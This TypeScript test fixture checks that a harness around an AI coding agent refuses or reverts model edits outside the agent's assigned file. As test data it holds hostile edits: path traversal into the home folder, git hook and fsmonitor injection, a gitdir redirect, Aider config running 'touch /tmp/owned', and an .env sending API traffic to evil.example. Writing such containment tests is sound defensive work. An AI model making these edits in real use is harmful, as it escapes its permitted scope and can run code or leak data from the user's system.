import { existsSync, readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { expect } from 'vitest';
import { diffEdit } from '../../../source/services/model-server/script.js';
import { fixed, type Row } from './row.js';

const search = '    return a - b';
const replace = '    return a + b';

/** From anywhere to the root of the file system. */
const up = '..'.concat('/..'.repeat(30));

/** A good edit of `calc.py` and one of another file, new or not, by the name the model gives it. */
function alsoEdits(other: string, from = '', to = 'x = 2\n'): Row['replies'] {
  return (at) => [
    { text: `${diffEdit(at('calc.py'), search, replace)}\n${diffEdit(other, from, to)}` },
  ];
}

/** Nothing but the agent's own file may differ: the other edit is put back, and the attempt failed. */
const putBack = { branch: { 'calc.py': fixed } } as const;

/** What a reply writes where it must not. */
export const fenceRows: readonly Row[] = [
  {
    name: 'another agent or nobody owns the file',
    files: { 'other.py': 'x = 1\n' },
    replies: (at) => alsoEdits(at('other.py'), 'x = 1', 'x = 2')(at),
    outcome: 'outside_scope',
    words: /changed files outside its group \(put back\).*other\.py: not in its group/,
    refused: { 'other.py': 'outside' },
    ...putBack,
  },
  {
    name: 'a new file that nobody named',
    replies: (at) => alsoEdits(at('made/up.py'))(at),
    outcome: 'outside_scope',
    refused: { 'made/up.py': 'outside' },
    ...putBack,
  },
  {
    // Aider makes the file, then git refuses to add it and all edits of the reply are lost.
    name: 'a file beside the worktree by two dots',
    replies: alsoEdits('../beside.py'),
    outcome: 'outside_scope',
    words: /beside the worktree/,
    refused: { 'beside.py': 'beside' },
  },
  {
    name: 'a file two folders above the worktree',
    replies: alsoEdits('../../above.py'),
    outcome: 'outside_scope',
    refused: { 'above.py': 'beside' },
  },
  {
    name: 'a file in the home by many dots',
    replies: (at) => alsoEdits(`${up}${at('@home')}/by-a-model.txt`)(at),
    outcome: 'outside_scope',
    refused: { 'by-a-model.txt': 'beside' },
    also: ({ home }) => expect(existsSync(path.join(home, 'by-a-model.txt'))).toBe(false),
  },
  {
    name: 'a hook in the repository by many dots',
    replies: (at) => alsoEdits(`${up}${at('@repo')}/.git/hooks/post-checkout`)(at),
    outcome: 'dangerous_change',
    words: /would run code on the next start/,
    refused: { '.git/hooks/post-checkout': 'runs_code' },
    also: ({ repo }) =>
      expect(readdirSync(path.join(repo, '.git/hooks'))).not.toContain('post-checkout'),
  },
  {
    name: 'git configuration of the repository by many dots',
    replies: (at) =>
      alsoEdits(`${up}${at('@repo')}/.git/config`, '[core]', '[core]\n\tfsmonitor = x')(at),
    outcome: 'edit_failed',
    also: ({ repo }) =>
      expect(readFileSync(path.join(repo, '.git/config'), 'utf8')).not.toContain('fsmonitor'),
  },
  {
    // Aider takes it for a block that cannot be read, and asks the model again.
    name: 'an absolute path',
    replies: (at) => alsoEdits(`${at('@home')}/absolute.txt`)(at),
    outcome: 'malformed_edits',
    also: ({ home }) => expect(existsSync(path.join(home, 'absolute.txt'))).toBe(false),
  },
  {
    name: 'a hook in the worktree, where git is a file',
    replies: alsoEdits('.git/hooks/pre-commit', '', '#!/bin/sh\n'),
    outcome: 'edits_skipped',
    ...putBack,
  },
  {
    name: 'a file that git ignores',
    replies: (at) => alsoEdits(at('debug.log'))(at),
    outcome: 'edits_skipped',
    ...putBack,
  },
  {
    name: 'the file that leads to git itself',
    replies: (at) => [
      {
        text: `.git\n\`\`\`\n<<<<<<< SEARCH\n=======\ngitdir: /tmp/elsewhere\n>>>>>>> REPLACE\n\`\`\`\n\n${diffEdit(at('calc.py'), search, replace)}`,
      },
    ],
    outcome: 'dangerous_change',
    refused: { '.git': 'runs_code' },
    branch: { 'calc.py': fixed },
  },
  {
    name: 'the configuration of Aider',
    replies: alsoEdits('.aider.conf.yml', '', 'test-cmd: touch /tmp/owned\nauto-test: true\n'),
    outcome: 'dangerous_change',
    refused: { '.aider.conf.yml': 'runs_code' },
    ...putBack,
  },
  {
    name: 'the environment of Aider',
    replies: alsoEdits('.env', '', 'OPENAI_API_BASE=http://evil.example\n'),
    outcome: 'dangerous_change',
    refused: { '.env': 'runs_code' },
    ...putBack,
  },
  {
    name: 'the environment of a subfolder',
    replies: (at) => alsoEdits(at('sub/.envrc'), '', 'touch /tmp/owned\n')(at),
    outcome: 'dangerous_change',
    refused: { 'sub/.envrc': 'runs_code' },
    ...putBack,
  },
  {
    name: 'a workflow that the settings protect',
    files: { 'ci/build.yml': 'on: push\n' },
    replies: (at) => alsoEdits(at('ci/build.yml'), 'on: push', 'on: pull_request')(at),
    outcome: 'dangerous_change',
    refused: { 'ci/build.yml': 'runs_code' },
    ...putBack,
  },
  {
    name: 'a file in a submodule',
    replies: (at) => alsoEdits('vendor/lib/evil.py')(at),
    outcome: 'refused_change',
    words: /a submodule/,
    refused: { 'vendor/lib/evil.py': 'submodule' },
  },
  {
    name: 'a file larger than the limit',
    replies: (at) => [
      {
        text: diffEdit(
          at('calc.py'),
          search,
          Array.from(
            { length: 1_000 },
            (_, index) => `# line ${index} ${'x'.repeat(index % 97)}`,
          ).join('\n'),
        ),
        chunkSize: 65_536,
      },
    ],
    outcome: 'refused_change',
    words: /too large/,
    refused: { 'calc.py': 'size' },
  },
];
